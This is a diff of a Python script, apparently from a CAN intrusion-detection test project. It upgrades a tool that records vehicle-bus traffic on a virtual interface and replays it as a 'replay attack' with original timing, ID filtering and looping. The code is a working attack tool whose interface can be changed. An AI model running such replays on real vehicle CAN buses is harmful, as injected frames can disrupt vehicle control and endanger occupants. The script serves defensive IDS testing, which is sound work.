@@ -1,53 +1,195 @@
 import can
 import time
 import sys
+import os
+import re
+import argparse
+import tempfile
+
+# Allow running as a script (python can_ids/attacks/...) from anywhere
+sys.path.append(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))))
+from can_ids.bus_mux import open_bus
 
 BUS_INTERFACE = 'vcan0'
 
-def record(duration):
-    print(f"🎙️  Recording {duration}s of traffic...")
-    messages = []
-    bus = can.ThreadSafeBus(channel=BUS_INTERFACE, interface='socketcan')
-    
+# candump -L format: (1763994029.760550) vcan0 123#0C80
+CANDUMP_PATTERN = re.compile(r"\((\d+\.\d+)\)\s+(\w+)\s+([0-9A-Fa-f]+)#([0-9A-Fa-f]*)")
+
+MIN_SPEED = 0.1
+MAX_SPEED = 100.0
+
+def record(duration, path=None, interface=BUS_INTERFACE):
+    """
+    Records `duration` seconds of traffic straight to a candump-format log.
+    Frames are written as they arrive, so memory use does not grow with the capture.
+    Returns (path, frame_count).
+    """
+    if path is None:
+        fd, path = tempfile.mkstemp(prefix="can_replay_", suffix=".log")
+        os.close(fd)
+
+    print(f"🎙️  Recording {duration}s of traffic to {path}...")
+    count = 0
+    bus = open_bus(interface, name="replay-recorder")
+
     end_time = time.time() + duration
     try:
-        while time.time() < end_time:
-            msg = bus.recv(timeout=0.1)
-            if msg: messages.append(msg)
+        with open(path, "w") as f:
+            while time.time() < end_time:
+                msg = bus.recv(timeout=0.1)
+                if msg:
+                    id_fmt = "{:08X}" if msg.is_extended_id else "{:03X}"
+                    f.write(f"({msg.timestamp:.6f}) {interface} {id_fmt.format(msg.arbitration_id)}#{msg.data.hex().upper()}\n")
+                    count += 1
     except KeyboardInterrupt:
         pass
     finally:
         bus.shutdown()
-    
-    print(f"✅ Captured {len(messages)} frames.")
-    return messages
-
-def replay(messages):
-    print(f"▶️  Replaying attack loop... (Press Ctrl+C to Stop)")
-    bus = can.ThreadSafeBus(channel=BUS_INTERFACE, interface='socketcan')
-    
+
+    print(f"✅ Captured {count} frames.")
+    return path, count
+
+def _parse_candump(line):
+    m = CANDUMP_PATTERN.match(line)
+    if not m:
+        return None
+    return float(m.group(1)), int(m.group(3), 16), bytes.fromhex(m.group(4))
+
+def iter_log_frames(path, ids=None, start=None, end=None):
+    """
+    Streams (timestamp, arbitration_id, data) tuples from a log on disk.
+
+    Accepts candump logs and the columnar CSVs written by parse_can_log.py
+    (timestamp,arbitration_id,data_hex,...). The file is read line by line,
+    so memory stays bounded regardless of the capture size.
+
+    Args:
+        ids: Optional set of arbitration IDs to keep.
+        start/end: Optional time range in seconds, relative to the first frame in the log.
+    """
+    with open(path, "r") as f:
+        first = f.readline()
+        columns = None
+        if first.startswith("timestamp"):
+            header = [c.strip() for c in first.split(",")]
+            try:
+                columns = (header.index("timestamp"), header.index("arbitration_id"), header.index("data_hex"))
+            except ValueError:
+                raise ValueError(f"{path}: CSV logs need timestamp, arbitration_id and data_hex columns")
+            lines = f
+        else:
+            lines = _chain_first(first, f)
+
+        log_start = None
+        for line in lines:
+            if columns is None:
+                frame = _parse_candump(line.strip())
+                if frame is None:
+                    continue
+            else:
+                parts = line.rstrip("\n").split(",")
+                try:
+                    frame = (float(parts[columns[0]]), int(parts[columns[1]], 16), bytes.fromhex(parts[columns[2]]))
+                except (ValueError, IndexError):
+                    continue
+
+            ts, can_id, data = frame
+            if log_start is None:
+                log_start = ts
+            offset = ts - log_start
+            if start is not None and offset < start:
+                continue
+            if end is not None and offset > end:
+                break
+            if ids is not None and can_id not in ids:
+                continue
+            yield frame
+
+def _chain_first(first, rest):
+    yield first
+    yield from rest
+
+def replay_log(path, speed=1.0, ids=None, start=None, end=None, loop=False, interface=BUS_INTERFACE):
+    """
+    Replays a recorded log onto the bus, reproducing the original inter-arrival times.
+
+    Each frame is scheduled against a deadline (replay start + log offset / speed)
+    rather than a fixed sleep, so timing errors don't accumulate. A speed of None
+    sends frames as fast as possible.
+    Returns the number of frames sent.
+    """
+    if speed is not None and not (MIN_SPEED <= speed <= MAX_SPEED):
+        raise ValueError(f"Speed must be between {MIN_SPEED}x and {MAX_SPEED}x")
+
+    bus = can.ThreadSafeBus(channel=interface, interface='socketcan')
+    sent = 0
     try:
         while True:
-            for msg in messages:
-                # Update timestamp to 'now' to look valid
-                msg.timestamp = time.time()
-                bus.send(msg)
-                time.sleep(0.002) # Fast replay
+            wall_start = time.perf_counter()
+            log_start = None
+            for ts, can_id, data in iter_log_frames(path, ids, start, end):
+                if log_start is None:
+                    log_start = ts
+                if speed is not None:
+                    delay = wall_start + (ts - log_start) / speed - time.perf_counter()
+                    if delay > 0:
+                        time.sleep(delay)
+                msg = can.Message(arbitration_id=can_id, data=data, is_extended_id=can_id > 0x7FF)
+                try:
+                    bus.send(msg)
+                    sent += 1
+                except can.CanError:
+                    pass
+            if not loop or log_start is None:
+                break
             time.sleep(0.1) # Loop delay
     except KeyboardInterrupt:
         print("\n🛑 Replay Stopped.")
     finally:
         bus.shutdown()
+    return sent
+
+def parse_id_list(value):
+    return {int(x, 16) for x in value.split(",") if x.strip()}
 
 def main():
+    parser = argparse.ArgumentParser(description="Record and/or replay CAN traffic with original timing")
+    parser.add_argument("--interface", default=BUS_INTERFACE)
+    parser.add_argument("--log", help="candump log or parsed CSV to replay (skips recording)")
+    parser.add_argument("--record", type=float, default=5.0, help="Seconds to record when no --log is given")
+    parser.add_argument("--speed", type=float, default=1.0, help=f"Replay speed multiplier ({MIN_SPEED}-{MAX_SPEED})")
+    parser.add_argument("--max-speed", action="store_true", help="Send as fast as possible, ignoring timing")
+    parser.add_argument("--ids", type=parse_id_list, default=None, help="Comma separated hex IDs to replay (e.g. 123,310)")
+    parser.add_argument("--start", type=float, default=None, help="Start offset in seconds from the beginning of the log")
+    parser.add_argument("--end", type=float, default=None, help="End offset in seconds from the beginning of the log")
+    parser.add_argument("--once", action="store_true", help="Replay the log once instead of looping")
+    args = parser.parse_args()
+
     # 1. Record Phase
-    captured = record(duration=5)
-    if not captured: return
+    if args.log:
+        path = args.log
+        if not os.path.exists(path):
+            print(f"❌ Error: {path} not found.")
+            sys.exit(1)
+    else:
+        path, count = record(args.record, interface=args.interface)
+        if not count:
+            os.remove(path)
+            return
 
     # 2. Attack Phase
-    # 2. Attack Phase
+    speed = None if args.max_speed else args.speed
     print("⚠️  Launching Replay Attack...")
-    replay(captured)
+    print(f"▶️  Replaying {path} at {'MAX' if speed is None else f'{speed}x'}... (Press Ctrl+C to Stop)")
+    try:
+        sent = replay_log(path, speed, args.ids, args.start, args.end, loop=not args.once, interface=args.interface)
+    except ValueError as e:
+        print(f"❌ Error: {e}")
+        sys.exit(1)
+    finally:
+        if not args.log:
+            os.remove(path)
+    print(f"✅ Replayed {sent} frames.")
 
 if __name__ == "__main__":
     main()